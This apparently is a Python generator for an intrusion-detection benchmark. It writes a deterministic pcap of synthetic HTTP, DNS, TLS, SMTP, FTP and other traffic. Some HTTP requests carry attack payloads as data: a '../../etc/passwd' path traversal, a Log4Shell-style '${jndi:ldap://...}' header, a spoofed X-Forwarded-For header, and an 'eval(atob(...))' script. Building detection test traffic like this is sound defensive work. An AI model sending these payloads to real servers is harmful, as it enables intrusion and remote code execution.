#!/usr/bin/env python3
# bench/gen_mix_app.py: a deterministic pcap of application traffic for the alerts-per-sid benchmark: HTTP both ways, DNS, TLS hellos, SMTP, FTP, other TCP and UDP, some of it shaped to hit ET-style rules.
# usage: gen_mix_app.py SESSIONS OUT.pcap   (SESSIONS of each kind in turn; about 12 packets each)
# Fixed seed and timestamps; outside 198.51.100.0/24 and 203.0.113.0/24, inside 172.31.0.0/16.
import random
import struct
import sys

nsess, out = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(14)
ts = [1700000000 * 10**6]
WORDS = ["admin", "login", "shell", "upload", "config", "backup", "wp-content", "cgi-bin", "api",
         "invoke", "exec", "cmd", "payload", "gate", "panel", "beacon", "update", "check", "task",
         "index", "static", "img", "news"]
TLDS = [".top", ".xyz", ".su", ".tk", ".pw", ".cc", ".ru", ".com", ".org", ".net"]
UAS = ["Mozilla/5.0 (X11; Linux x86_64)", "python-requests/2.31", "curl/8.4.0", "Wget/1.21",
       "Go-http-client/1.1"]
pkts = []


def w():
    return rnd.choice(WORDS)


def csum(b):
    if len(b) & 1:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return (~s) & 0xffff


def ip4(a):
    return bytes(int(x) for x in a.split("."))


def emit(src, dst, proto, l4):
    ih = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0x4000, 64, proto, 0, ip4(src), ip4(dst))
    ih = ih[:10] + struct.pack("!H", csum(ih)) + ih[12:]
    ts[0] += rnd.randint(5, 40)
    pkts.append((ts[0], b"\x02\0\0\0\0\x02\x02\0\0\0\0\x01\x08\x00" + ih + l4))


class Tcp:
    def __init__(self, cli, srv, sport, dport):
        self.c, self.s, self.sp, self.dp = cli, srv, sport, dport
        self.seq = [rnd.getrandbits(32), rnd.getrandbits(32)]
        self.seg(1, "S")
        self.seg(0, "SA")
        self.seg(1, "A")

    def seg(self, to_srv, flags, data=b""):
        i = 0 if to_srv else 1
        src, dst = (self.c, self.s) if to_srv else (self.s, self.c)
        sp, dp = (self.sp, self.dp) if to_srv else (self.dp, self.sp)
        fl = sum({"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}[f] for f in flags)
        ack = self.seq[1 - i] if "A" in flags else 0
        th = struct.pack("!HHIIBBHHH", sp, dp, self.seq[i] & 0xffffffff, ack & 0xffffffff, 0x50, fl, 65535, 0, 0)
        ph = ip4(src) + ip4(dst) + struct.pack("!BBH", 0, 6, len(th) + len(data))
        th = th[:16] + struct.pack("!H", csum(ph + th + data)) + th[18:]
        emit(src, dst, 6, th + data)
        self.seq[i] += len(data) + (1 if ("S" in flags or "F" in flags) else 0)

    def send(self, to_srv, data):
        if isinstance(data, str):
            data = data.encode()
        for k in range(0, len(data), 1400):
            self.seg(to_srv, "PA", data[k:k + 1400])

    def close(self):
        self.seg(1, "FA")
        self.seg(0, "FA")
        self.seg(1, "A")


def udp(src, dst, sp, dp, data):
    uh = struct.pack("!HHHH", sp, dp, 8 + len(data), 0)
    emit(src, dst, 17, uh + data)


def outside(i):
    return "198.51.100.%d" % (i % 250 + 1)


def inside(i):
    return "172.31.%d.%d" % (i % 16, i % 200 + 10)


def remote(i):
    return "203.0.113.%d" % (i % 250 + 1)


def http_in(i):
    s = Tcp(outside(i), inside(i), 20000 + i % 40000, 80)
    k = i % 5
    path = "/%s/%s.php?id=%d" % (w(), w(), i)
    extra = ""
    if k == 1:
        extra = "X-Forwarded-For: 127.0.0.1\r\n"
    elif k == 2:
        path = "/%s/../../etc/passwd" % w()
    elif k == 3:
        extra = "X-Api-Version: ${jndi:ldap://%s%s/a}\r\n" % (w(), rnd.choice(TLDS))
    proto = "HTTP/1.0" if k == 2 else "HTTP/1.1"
    s.send(1, "GET %s %s\r\nHost: shop.example\r\nUser-Agent: %s\r\nAccept: */*\r\n%s\r\n"
           % (path, proto, rnd.choice(UAS), extra))
    body = "<html>%s</html>" % ("x" * rnd.randint(200, 2000))
    s.send(0, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    s.close()


def http_out(i):
    s = Tcp(inside(i), remote(i), 30000 + i % 30000, 80)
    host = "%s%s" % (w(), rnd.choice(TLDS))
    if i % 3 == 0:
        data = "%s=%016x&%s=1" % (w(), rnd.getrandbits(64), w())
        s.send(1, "POST /%s/%s.php HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Length: %d\r\n"
               "Content-Type: application/x-www-form-urlencoded\r\n\r\n%s" % (w(), w(), host, rnd.choice(UAS), len(data), data))
    else:
        s.send(1, "GET /%s?id=%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nCookie: %s=1\r\n\r\n"
               % (w(), i, host, rnd.choice(UAS), w()))
    body = "<script>eval(atob('%s'))</script>" % w() if i % 7 == 0 else "ok"
    s.send(0, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
    s.close()


def dns(i):
    name = "%s%d%s" % (w(), rnd.randint(1, 99), rnd.choice(TLDS)) if i % 2 else "www.example.com"
    q = struct.pack("!HHHHHH", i & 0xffff, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
    udp(inside(i), "203.0.113.53", 40000 + i % 20000, 53, q)
    a = bytearray(q)
    a[2:4] = b"\x81\x80"
    a[6:8] = b"\x00\x01"
    a += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + bytes([203, 0, 113, i % 250 + 1])
    udp("203.0.113.53", inside(i), 53, 40000 + i % 20000, bytes(a))


def tls(i):
    s = Tcp(inside(i), remote(i), 50000 + i % 15000, 443)
    sni = ("%s%s" % (w(), rnd.choice(TLDS))).encode()
    ext = struct.pack("!HHHBH", 0, len(sni) + 5, len(sni) + 3, 0, len(sni)) + sni
    body = (b"\x03\x03" + bytes(rnd.getrandbits(8) for _ in range(32)) + b"\x00"
            + struct.pack("!HHH", 4, 0xc02f, 0x1301) + b"\x01\x00" + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    s.send(1, struct.pack("!BHH", 22, 0x0301, len(hs)) + hs)
    sh = b"\x03\x03" + bytes(32) + b"\x00" + struct.pack("!HB", 0xc02f, 0) + struct.pack("!HHHH", 6, 43, 2, 0x0304)
    hs = b"\x02" + struct.pack("!I", len(sh))[1:] + sh
    s.send(0, struct.pack("!BHH", 22, 0x0303, len(hs)) + hs + b"\x14\x03\x03\x00\x01\x01"
           + b"\x17\x03\x03\x00\x40" + bytes(rnd.getrandbits(8) for _ in range(64)))
    s.close()


def smtp(i):
    s = Tcp(outside(i), inside(i), 25000 + i % 30000, 25)
    s.send(0, "220 mail.example ESMTP\r\n")
    s.send(1, "EHLO %s.example\r\n" % w())
    s.send(0, "250-mail.example\r\n250 8BITMIME\r\n")
    s.send(1, "MAIL FROM:<%s@%s%s>\r\nRCPT TO:<ops@example.org>\r\nDATA\r\n" % (w(), w(), rnd.choice(TLDS)))
    s.send(0, "250 ok\r\n250 ok\r\n354 go\r\n")
    s.send(1, "Subject: %s\r\nX-Mailer: %s\r\n\r\n%s\r\n.\r\nQUIT\r\n" % (w(), w(), "y" * rnd.randint(100, 1500)))
    s.send(0, "250 queued\r\n221 bye\r\n")
    s.close()


def other(i):
    if i % 3 == 0:  # FTP
        s = Tcp(outside(i), inside(i), 26000 + i % 30000, 21)
        s.send(0, "220 ftp ready\r\n")
        s.send(1, "USER anonymous\r\n" if i % 2 else "USER %s\r\n" % w())
        s.send(0, "331 password\r\n")
        s.send(1, "PASS x@\r\n")
        s.close()
    elif i % 3 == 1:  # binary TCP on service ports
        s = Tcp(outside(i), inside(i), 27000 + i % 30000, rnd.choice([445, 3389, 1433, 8081]))
        s.send(1, bytes([rnd.randint(11, 255)]) + b"\x00\x00\x00" + w().encode() + bytes(rnd.getrandbits(8) for _ in range(200)))
        s.send(0, bytes(rnd.getrandbits(8) for _ in range(300)))
        s.close()
    else:  # UDP
        d = bytes(4) + (b"\xde\xad" + w().encode() if i % 2 else b"") + bytes(rnd.getrandbits(8) for _ in range(80))
        udp(outside(i), inside(i), 28000 + i % 30000, 9000 + i % 100, d)


for i in range(nsess):
    for f in (http_in, http_out, dns, tls, smtp, other):
        f(i)
with open(out, "wb") as fo:
    fo.write(struct.pack("<IHHiIII", 0xa1b23c4d, 2, 4, 0, 0, 65535, 1))
    for t, fr in pkts:
        fo.write(struct.pack("<IIII", t // 10**6, (t % 10**6) * 1000, len(fr), len(fr)) + fr)
